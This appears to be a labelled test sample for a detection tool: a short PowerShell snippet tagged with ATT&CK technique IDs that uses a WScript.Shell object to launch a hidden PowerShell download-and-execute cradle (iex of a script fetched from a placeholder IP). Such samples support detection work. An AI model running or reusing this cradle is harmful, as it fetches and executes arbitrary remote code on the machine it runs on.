# expect: T1059.001 T1105
$wsh = New-Object -ComObject WScript.Shell
$wsh.Exec("powershell -nop -c iex(irm http://198.51.100.1/q)")
